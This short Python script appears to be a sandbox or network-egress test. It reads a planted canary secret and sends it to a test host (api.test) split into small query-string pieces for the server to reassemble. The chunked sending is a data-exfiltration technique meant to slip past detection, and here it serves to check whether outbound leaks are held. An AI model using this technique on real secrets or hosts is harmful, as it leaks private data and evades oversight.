# Sends what is in a planted file in a query of many small pieces, which the server puts together.
# network: held
from prelude import TOLD, canary, get, say

word = canary().decode()
print(
    say(
        get(
            f"http://api.test:{TOLD['WEB']}/?" + "&".join(f"piece={word[at : at + 4]}" for at in range(0, len(word), 4))
        )
    )[:100]
)
print("tried")
